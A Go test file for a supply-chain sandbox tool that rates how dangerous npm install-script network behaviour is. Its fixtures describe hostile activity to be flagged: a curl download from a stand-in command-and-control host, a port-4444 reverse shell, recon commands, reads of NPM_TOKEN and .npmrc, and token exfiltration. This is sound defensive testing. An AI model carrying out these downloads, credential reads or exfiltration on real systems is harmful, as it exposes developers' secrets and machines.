package verdict

import (
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestInstallDownload: an install script fetching over HTTPS from a name it
// resolved, with nothing else of concern, is medium DBX008; anything
// malware adds keeps it high.
func TestInstallDownload(t *testing.T) {
	https := func(host string) profile.Endpoint {
		return profile.Endpoint{Address: "203.0.113.5", Port: 443, Protocol: "tcp", Host: host, Result: "ok"}
	}
	dns := func(names ...string) []profile.DNSQuery {
		var out []profile.DNSQuery
		for _, n := range names {
			out = append(out, profile.DNSQuery{Name: n, Type: "A"})
		}
		return out
	}
	node := profile.Process{Argv: []string{"node", "install.js"}, Binary: "/usr/bin/node", Result: "ok"}
	tests := []struct {
		name string
		b    *profile.Behavior
		want Severity
	}{
		{"a binary fetched over HTTPS (puppeteer, prisma)", &profile.Behavior{
			Network: []profile.Endpoint{https("storage.googleapis.com")}, DNS: dns("storage.googleapis.com"), Processes: []profile.Process{node}}, Medium},
		{"and a lookup program (prisma's openssl version)", &profile.Behavior{
			Network: []profile.Endpoint{https("binaries.prisma.sh")}, DNS: dns("binaries.prisma.sh"),
			Processes: []profile.Process{node, {Argv: []string{"openssl", "version", "-v"}, Binary: "/usr/bin/openssl", Result: "ENOENT"}}}, Medium},
		{"with host recon through a shell (google-caja-bower's beacon)", &profile.Behavior{
			Network: []profile.Endpoint{https("discord.invalid")}, DNS: dns("discord.invalid"),
			Processes: []profile.Process{node, {Argv: []string{"/bin/sh", "-c", "whoami"}, Binary: "/bin/sh", Result: "ok"}}}, High},
		{"with host recon run directly", &profile.Behavior{
			Network: []profile.Endpoint{https("discord.invalid")}, DNS: dns("discord.invalid"),
			Processes: []profile.Process{node, {Argv: []string{"id"}, Binary: "/usr/bin/id", Result: "ok"}}}, High},
		{"a DNS-only name (a beacon)", &profile.Behavior{
			Network: []profile.Endpoint{https("cdn.example.invalid")}, DNS: dns("cdn.example.invalid", "aGVsbG8.x.invalid")}, High},
		{"DNS only", &profile.Behavior{DNS: dns("aGVsbG8.x.invalid")}, High},
		{"an address, no name", &profile.Behavior{
			Network: []profile.Endpoint{{Address: "192.0.2.7", Port: 443, Protocol: "tcp", Result: "ok"}}}, High},
		{"another port (a reverse shell)", &profile.Behavior{
			Network: []profile.Endpoint{{Address: "192.0.2.7", Port: 4444, Protocol: "tcp", Host: "c2.invalid"}}, DNS: dns("c2.invalid")}, High},
		{"UDP", &profile.Behavior{
			Network: []profile.Endpoint{{Address: "192.0.2.7", Port: 443, Protocol: "udp", Host: "c2.invalid"}}, DNS: dns("c2.invalid")}, High},
		{"with a secret read (DBX006)", &profile.Behavior{
			Network: []profile.Endpoint{https("c2.invalid")}, DNS: dns("c2.invalid"), Env: []string{"NPM_TOKEN"}}, High},
		{"with a credential file read (DBX005)", &profile.Behavior{
			Network: []profile.Endpoint{https("c2.invalid")}, DNS: dns("c2.invalid"),
			Files: []profile.File{{Path: "/home/sbx_user/.npmrc", Access: profile.AccessRead}}}, High},
		{"with a downloader (DBX007)", &profile.Behavior{
			Network: []profile.Endpoint{https("c2.invalid")}, DNS: dns("c2.invalid"),
			Processes: []profile.Process{{Argv: []string{"curl", "-sO", "https://c2.invalid/x"}, Binary: "/usr/bin/curl", Result: "ok"}}}, High},
		{"with a shipped binary run (DBX020)", &profile.Behavior{
			Network: []profile.Endpoint{https("c2.invalid")}, DNS: dns("c2.invalid"),
			Processes: []profile.Process{{Argv: []string{"/var/task/node_modules/evil/agent"}, Binary: "/var/task/node_modules/evil/agent", Result: "ok"}}}, High},
		{"with a canary leaving (DBX001)", &profile.Behavior{
			Network: []profile.Endpoint{https("c2.invalid")}, DNS: dns("c2.invalid"),
			Exfiltration: []profile.Exfil{{Canary: "NPM_TOKEN", Channel: "network", Destination: "c2.invalid:443", Encoding: "raw"}}}, High},
		{"unexplained by a hook record", &profile.Behavior{Unattributed: &profile.Behavior{
			Network: []profile.Endpoint{https("c2.invalid")}, DNS: dns("c2.invalid")}}, High},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := &profile.Profile{Schema: profile.Schema, Dependencies: []profile.Dependency{pkgAt("node_modules/evil", map[string]*profile.Behavior{profile.PhaseInstall: tc.b})}}
			got := rulesOn(Evaluate(Input{Profile: p}, Options{}), "node_modules/evil")
			if got[RuleInstallNetwork] != tc.want {
				t.Errorf("DBX008 %v, want %v (%v)", got[RuleInstallNetwork], tc.want, got)
			}
		})
	}
}
